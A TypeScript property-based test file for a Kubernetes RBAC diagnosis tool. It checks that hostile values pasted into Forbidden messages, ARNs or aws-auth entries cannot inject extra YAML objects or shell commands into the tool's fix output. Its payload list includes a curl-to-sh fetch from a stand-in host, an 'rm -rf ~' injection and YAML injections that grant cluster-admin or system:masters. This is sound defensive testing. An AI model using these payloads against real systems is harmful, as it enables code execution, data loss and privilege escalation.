// A paste cannot turn the fix against its user: for any string in any field of a Forbidden message, an ARN (caller
// identity, aws-auth entry, access entry) or an aws-auth entry, the --fix stream parses to the kinds (and no more)
// that a benign value gives, and every command of the report tokenises to the words a benign value gives, the hostile
// value inside one quoted word (or the command left out, with a note).
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { diagnose, type Report } from '@rbac-diagnose/core';
import { builtinRuleSet } from '@rbac-diagnose/rules';
import { commandShape as shape, TEMPLATE_SHAPES } from '../../../test-support/commands.js';
import { renderFix } from '../src/output.js';

/** A Go %q string body, as kubectl prints a quoted name. */
const goQuoted = (s: string): string => JSON.stringify(s).slice(1, -1);
/** A YAML double-quoted scalar (JSON is valid YAML). */
const yq = (s: string): string => JSON.stringify(s);

const AWS_AUTH = (roleArn: string, username: string, group: string): string => `apiVersion: v1
kind: ConfigMap
metadata:
  name: aws-auth
  namespace: kube-system
  resourceVersion: "42"
data:
  mapUsers: |
    - userarn: ${yq(roleArn)}
      username: ${yq(username)}
      groups:
        - ${yq(group)}
`;
const WALL3 =
  'Warning  FailedScheduling  default-scheduler  0/2 nodes are available: 2 node(s) had untolerated taint {node.kubernetes.io/not-ready: }.';

/** Each field a paste can carry, as a complete input with the value in place. */
const FIELDS: Record<string, (v: string) => string> = {
  'forbidden user': (v) =>
    `Error from server (Forbidden): pods is forbidden: User "${goQuoted(v)}" cannot list resource "pods" in API group "" in the namespace "dev"`,
  'forbidden namespace': (v) =>
    `Error from server (Forbidden): pods is forbidden: User "alice" cannot list resource "pods" in API group "" in the namespace "${goQuoted(v)}"`,
  'forbidden resource': (v) =>
    `Error from server (Forbidden): ${v} is forbidden: User "alice" cannot get resource "${goQuoted(v)}" in API group "apps" in the namespace "dev"`,
  'forbidden verb': (v) =>
    `Error from server (Forbidden): pods is forbidden: User "alice" cannot ${v} resource "pods" in API group "" in the namespace "dev"`,
  'forbidden object name': (v) =>
    `Error from server (Forbidden): secrets "${goQuoted(v)}" is forbidden: User "alice" cannot get resource "secrets" in API group "" in the namespace "dev"`,
  'impersonated group': (v) =>
    `Error from server (Forbidden): groups "${goQuoted(v)}" is forbidden: User "bob" cannot impersonate resource "groups" in API group "" at the cluster scope`,
  'service account': (v) =>
    `Error from server (Forbidden): configmaps is forbidden: User "system:serviceaccount:apps:${goQuoted(v)}" cannot list resource "configmaps" in API group "" in the namespace "apps"`,
  'caller identity ARN': (v) =>
    `error: You must be logged in to the server (Unauthorized)\n$ aws sts get-caller-identity\n{\n  "UserId": "AIDAEXAMPLE",\n  "Account": "111122223333",\n  "Arn": ${JSON.stringify(v)}\n}\n${AWS_AUTH('arn:aws:iam::111122223333:user/alice', 'alice', 'dev')}`,
  'aws-auth ARN': (v) => `${WALL3}\n${AWS_AUTH(v, 'alice', 'dev')}`,
  'aws-auth username': (v) => `${WALL3}\n${AWS_AUTH('arn:aws:iam::111122223333:user/alice', v, 'dev')}`,
  'aws-auth group': (v) => `${WALL3}\n${AWS_AUTH('arn:aws:iam::111122223333:user/alice', 'alice', v)}`,
  'access entry ARN': (v) =>
    `error: You must be logged in to the server (Unauthorized)\n$ aws eks list-access-entries --cluster-name prod\n{\n  "accessEntries": [\n    ${JSON.stringify(v)}\n  ]\n}`,
};

const BENIGN: Record<string, string> = {
  'forbidden user': 'zzbenign',
  'forbidden namespace': 'zzbenign',
  'forbidden resource': 'zzbenigns',
  'forbidden verb': 'list',
  'forbidden object name': 'zzbenign',
  'impersonated group': 'zzbenign',
  'service account': 'zzbenign',
  'caller identity ARN': 'arn:aws:sts::111122223333:assumed-role/zzbenign/s',
  'aws-auth ARN': 'arn:aws:iam::111122223333:user/zzbenign',
  'aws-auth username': 'zzbenign',
  'aws-auth group': 'zzbenign',
  'access entry ARN': 'arn:aws:iam::111122223333:role/zzbenign',
};

const PAYLOADS = [
  'x\n---\nkind: ClusterRoleBinding\nmetadata:\n  name: pwn\nroleRef:\n  name: cluster-admin\n#',
  'a" cannot list resource "pods',
  '$(curl evil.sh|sh)',
  '`id`',
  'x; rm -rf ~',
  "it's",
  '*',
  'system:masters',
  'arn:aws:iam::111122223333:role/x\n- rolearn: arn:aws:iam::111122223333:role/y\n  groups: [system:masters]',
  'arn:aws:iam::111122223333:role/team/$(id)/Admin',
  ' leading',
  'a\u202eb',
  '<cluster-name>',
  'no',
];
const hostile = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

const run = (text: string): Promise<Report> => diagnose(text, { ...builtinRuleSet, trustedRules: true });

function commands(r: Report): string[] {
  return r.diagnoses.flatMap((d) => [
    ...d.nextSteps.map((n) => n.command),
    ...d.remediation.flatMap((x) => (x.command === undefined ? [] : [x.command])),
  ]);
}

/** The documents of a --fix stream as kind/name; throws when it does not parse. */
function fixObjects(r: Report): string[] {
  const docs = parseAllDocuments(renderFix(r), { version: '1.1' });
  const list = Array.isArray(docs) ? docs : [docs];
  for (const d of list) expect(d.errors).toEqual([]);
  return list
    .map((d) => d.toJS() as { kind?: string; metadata?: { name?: unknown } } | null)
    .filter((o) => o !== null)
    .map((o) => `${o.kind ?? ''}`);
}

const SPECIAL = /[\s`$;|&<>()'"\\]/;

describe.each(Object.keys(FIELDS))('%s', (field) => {
  const make = FIELDS[field] as (v: string) => string;
  test('property: the fix stream and every command keep their shape whatever the value', async () => {
    const benign = await run(make(BENIGN[field] ?? 'zzbenign'));
    const benignKinds = fixObjects(benign);
    const benignShapes = new Set(commands(benign).map(shape));
    const benignText = commands(benign).join('\n');
    expect([...benignShapes].filter((x) => !TEMPLATE_SHAPES.has(x))).toEqual([]);
    let runs = 0;
    await fc.assert(
      fc.asyncProperty(hostile, async (v) => {
        runs++;
        const r = await run(make(v));
        // No object beyond those of the benign value; at most one aws-auth.
        const kinds = fixObjects(r);
        const left = [...benignKinds];
        for (const k of kinds) {
          const i = left.indexOf(k);
          expect(i, `${k} appears in the fix stream only with the hostile value`).toBeGreaterThanOrEqual(0);
          left.splice(i, 1);
        }
        expect(kinds.filter((k) => k === 'ConfigMap').length).toBeLessThanOrEqual(1);
        for (const c of commands(r)) {
          // The words and operators of its template: a value is one word, wherever it lands.
          expect(TEMPLATE_SHAPES.has(shape(c)), `command changed shape: ${c}`).toBe(true);
          // A value with shell-special characters appears only inside single quotes (or escaped). (A value spelled
          // like one of the tool's own hints cannot be told from it by text; fillCommand's tests cover it.)
          // A value that is part of the template's own text (" w" in "-o wide") cannot be found by text either, nor one
          // that runs into a hint the command shows instead of a refused value ("> --reg" of "<cluster-name> --region"):
          // hints are blanked out before looking.
          if (v.length > 1 && SPECIAL.test(v) && !/^<[\w -]+>$/.test(v) && !benignText.includes(v))
            expect(
              c
                .replace(/'[^']*'/g, '')
                .replace(/<[\w -]+>/g, '\u0000')
                .includes(v),
              `unquoted value in: ${c}`,
            ).toBe(false);
        }
      }),
      { numRuns: 120 },
    );
    expect(runs).toBe(120);
  }, 120000);
});
